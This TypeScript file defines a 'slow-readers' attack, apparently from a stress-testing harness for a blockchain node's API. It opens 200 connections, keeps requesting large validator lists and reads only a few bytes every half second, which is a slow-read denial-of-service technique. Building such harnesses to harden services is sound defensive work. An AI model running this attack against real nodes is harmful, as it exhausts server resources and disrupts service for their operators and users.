import type { Attack } from "../attack.ts";
import { callOf } from "../questions.ts";
import { postOf } from "../wire.ts";

const CONNECTIONS = 200;
const EVERY_MS = 500;
const BYTES = 200;

export const slowReaders: Attack = {
  name: "slow-readers",
  does: "200 connections ask for large answers again and again and read a few bytes at a time",
  targets: ["serve", "devnet"],
  async run(attacker) {
    const request =
      postOf("/ext/bc/P", callOf("platform.getCurrentValidators", {})) +
      postOf("/ext/bc/P", callOf("platform.getValidatorsAt", { height: 0 }));
    await attacker.again(CONNECTIONS, async () => {
      const socket = await attacker.connect({ isRead: false });
      if (socket === undefined) return;
      while (!attacker.isOver() && !socket.destroyed) {
        socket.write(request);
        socket.read(BYTES);
        await attacker.wait(EVERY_MS);
      }
    });
  },
};
